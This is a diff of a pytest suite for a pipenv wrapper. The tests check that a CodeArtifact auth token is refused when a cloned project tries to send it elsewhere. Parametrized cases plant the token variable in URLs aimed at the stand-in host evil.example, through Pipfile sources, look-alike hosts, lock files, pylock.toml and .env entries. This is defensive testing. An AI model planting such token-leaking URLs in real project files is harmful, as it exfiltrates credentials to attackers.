@@ -34,6 +34,7 @@ if TYPE_CHECKING:
 pytestmark = pytest.mark.endurance
 
 STRAY = f"https://evil.example/${{{TOKEN_VARIABLE}}}/x-1.0-py3-none-any.whl"
+AWS_HOST = "my-dom-123456789012.d.codeartifact.us-east-1.amazonaws.com"
 PRIVATE = '[packages]\norb-common = "*"\n'
 
 
@@ -77,6 +78,14 @@ class ForeignIndex(FakePublicIndex):
         return any(token[:60] in head or "authorization" in head.lower() for head in self.heads)
 
 
+def lock_with(*sources: dict[str, Any], **categories: Any) -> str:
+    """Return a lock with these sources after the repository, and these categories."""
+    url = f"https://aws:${{{TOKEN_VARIABLE}}}@{AWS_HOST}/pypi/team/simple/"
+    own = {"name": "codeartifact", "url": url, "verify_ssl": True}
+    meta = {"hash": {"sha256": "0" * 64}, "sources": [own, *sources], "requires": {}}
+    return json.dumps({"_meta": meta, "default": {}, "develop": {}} | categories)
+
+
 class PoisonedProject:
     """A cloned project that tries to get a token."""
 
@@ -105,14 +114,6 @@ class PoisonedProject:
         path = self.file(name, f"#!/bin/sh\n{text}\n")
         path.chmod(0o755)
         return path
-
-    def lock(self, *sources: dict[str, Any], **categories: Any) -> None:
-        """Write a lock with these sources after the repository, and these categories."""
-        url = source(self.codeartifact.endpoint).split('"')[1]
-        all_ = [{"name": "codeartifact", "url": url, "verify_ssl": True}, *sources]
-        meta = {"hash": {"sha256": "0" * 64}, "sources": all_, "requires": {}, "pipfile-spec": 6}
-        document = {"_meta": meta, "default": {}, "develop": {}} | categories
-        self.file("Pipfile.lock", json.dumps(document))
 
     def __call__(self, *words: str, **env: str) -> Result:
         """Run a command with a stand-in for pipenv that records its input."""
@@ -169,60 +170,52 @@ def marker(tmp_path: Path) -> Path:
     return tmp_path / "was-run"
 
 
-def _pipfile(text: str) -> Callable[[PoisonedProject], None]:
-    return lambda p: p.write(f"[packages]\n{text}\n")
-
-
-def _foreign_source(url: str) -> Callable[[PoisonedProject], None]:
-    table = f'[[source]]\nurl = "{url}"\nverify_ssl = true\nname = "evil"\n'
-    return lambda p: p.write(table, PRIVATE)
-
-
-def _file(name: str, text: str) -> Callable[[PoisonedProject], object]:
-    return lambda p: p.file(name, text)
-
-
-STRAYS: dict[str, Callable[[PoisonedProject], object]] = {
-    "a second source": _foreign_source(f"https://aws:${{{TOKEN_VARIABLE}}}@evil.example/simple"),
-    "a host that looks alike": _foreign_source(
-        f"https://aws:${{{TOKEN_VARIABLE}}}@my-dom-123456789012.d.codeartifact.us-east-1."
-        "amazonaws.com.evil.example/pypi/team/simple/"
+ANOTHER = '[[source]]\nurl = "{}"\nverify_ssl = true\nname = "evil"\n[packages]\n'
+VARIABLE = f"${{{TOKEN_VARIABLE}}}"
+IN_PYLOCK = '[[packages]]\nname = "x"\n'
+# Where the token's variable is: what is added to the Pipfile, or another file and its text.
+STRAYS: dict[str, str | tuple[str, str]] = {
+    "a second source": ANOTHER.format(f"https://aws:{VARIABLE}@evil.example/simple"),
+    "a host that looks alike": ANOTHER.format(
+        f"https://aws:{VARIABLE}@{AWS_HOST}.evil.example/pypi/team/"
     ),
-    "the username": _foreign_source(f"https://${TOKEN_VARIABLE}@evil.example/simple"),
-    "the path": _foreign_source(f"https://evil.example/${TOKEN_VARIABLE}/simple"),
-    "another spelling": _foreign_source("https://evil.example/\\u0024{CODEARTIFACT_AUTH_TOKEN}/"),
-    "Windows' spelling": _foreign_source(f"https://evil.example/%{TOKEN_VARIABLE}%/simple"),
-    "file": _pipfile(f'x = {{file = "{STRAY}"}}'),
-    "path": _pipfile(f'x = {{path = "./${TOKEN_VARIABLE}"}}'),
-    "git": _pipfile(f'x = {{git = "https://${{{TOKEN_VARIABLE}}}@evil.example/x.git"}}'),
-    "a name of a package": _pipfile(f'"x @ {STRAY}" = "*"'),
-    "a version": _pipfile(f'x = "@ {STRAY}"'),
-    "another category": _pipfile(f'[docs]\nx = {{file = "{STRAY}"}}'),
-    "a source of the lock": lambda p: p.lock({"name": "evil", "url": STRAY, "verify_ssl": True}),
-    "file in the lock": lambda p: p.lock(default={"x": {"file": STRAY}}),
-    "a name in the lock": lambda p: p.lock(develop={f"x @ {STRAY}": {"version": "*"}}),
-    "git in the lock": lambda p: p.lock(docs={"x": {"git": STRAY, "ref": "main"}}),
-    "pylock.toml": _file("pylock.toml", f'[[packages]]\nname = "x"\nindex = "{STRAY}"\n'),
-    "a named pylock": _file(
-        "pylock.dev.toml", f'[[packages]]\nname = "x"\narchive = {{url = "{STRAY}"}}\n'
-    ),
-    "braces in braces": _pipfile(f'x = "@ {STRAY.replace("${", "${A${")}"'),
-    ".env": _file(".env", f"PIP_EXTRA_INDEX_URL={STRAY}\n"),
-    ".env with a default": _file(".env", f"A=${{{TOKEN_VARIABLE}:-x}}\n"),
+    "the username": ANOTHER.format(f"https://${TOKEN_VARIABLE}@evil.example/simple"),
+    "the path": ANOTHER.format(f"https://evil.example/${TOKEN_VARIABLE}/simple"),
+    "another spelling": ANOTHER.format("https://evil.example/\\u0024{CODEARTIFACT_AUTH_TOKEN}/"),
+    "Windows' spelling": ANOTHER.format(f"https://evil.example/%{TOKEN_VARIABLE}%/simple"),
+    "file": f'[packages]\nx = {{file = "{STRAY}"}}\n',
+    "path": f'[packages]\nx = {{path = "./${TOKEN_VARIABLE}"}}\n',
+    "git": f'[packages]\nx = {{git = "https://{VARIABLE}@evil.example/x.git"}}\n',
+    "a name of a package": f'[packages]\n"x @ {STRAY}" = "*"\n',
+    "a version": f'[packages]\nx = "@ {STRAY}"\n',
+    "braces in braces": f'[packages]\nx = "@ {STRAY.replace("${", "${A${")}"\n',
+    "another category": f'[docs]\nx = {{file = "{STRAY}"}}\n',
+    "a source of the lock": ("Pipfile.lock", lock_with({"name": "evil", "url": STRAY})),
+    "file in the lock": ("Pipfile.lock", lock_with(default={"x": {"file": STRAY}})),
+    "a name in the lock": ("Pipfile.lock", lock_with(develop={f"x @ {STRAY}": {"version": "*"}})),
+    "git in the lock": ("Pipfile.lock", lock_with(docs={"x": {"git": STRAY, "ref": "main"}})),
+    "pylock.toml": ("pylock.toml", f'{IN_PYLOCK}index = "{STRAY}"\n'),
+    "a named pylock": ("pylock.dev.toml", f'{IN_PYLOCK}archive = {{url = "{STRAY}"}}\n'),
+    ".env": (".env", f"PIP_EXTRA_INDEX_URL={STRAY}\n"),
+    ".env with a default": (".env", f"A=${{{TOKEN_VARIABLE}:-x}}\n"),
 }
 
 
 @pytest.mark.parametrize("place", STRAYS)
 def test_token_variable_in_any_place_is_refused(place: str, poisoned: PoisonedProject) -> None:
-    STRAYS[place](poisoned)
+    added = STRAYS[place]
+    if isinstance(added, str):
+        poisoned.write(added)
+    else:
+        poisoned.file(*added)
     poisoned.refused("sync", parts=(TOKEN_VARIABLE,))
 
 
 def test_token_variable_in_pieces_is_refused(poisoned: PoisonedProject) -> None:
     begin, end = STRAY[:-30], STRAY[-30:]
-    poisoned.lock(default={f"x @ {begin}": {"version": end}})
+    poisoned.file("Pipfile.lock", lock_with(default={f"x @ {begin}": {"version": end}}))
     poisoned.refused("sync", parts=("an unfinished variable",))
-    poisoned.lock()
+    poisoned.file("Pipfile.lock", lock_with())
     poisoned.write(f'[packages]\n"x @ {begin}" = "{end}"\n')
     for words in (("sync",), ("lock",), ("--ca-route", "loopback", "lock")):
         poisoned.refused(*words, parts=("an unfinished variable",))
@@ -329,8 +322,7 @@ def test_an_unverified_source_gets_no_token_from_pip(poisoned: PoisonedProject) 
     poisoned.refused("--ca-route", "as-written", "sync", parts=("verify_ssl",))
     poisoned.gets_no_token("sync")
     poisoned.write(PRIVATE)
-    url = table.split('"')[1]
-    poisoned.lock({"name": "codeartifact", "url": url, "verify_ssl": False})
+    poisoned.file("Pipfile.lock", lock_with().replace("true", "false"))
     poisoned.gets_no_token("sync")
 
 
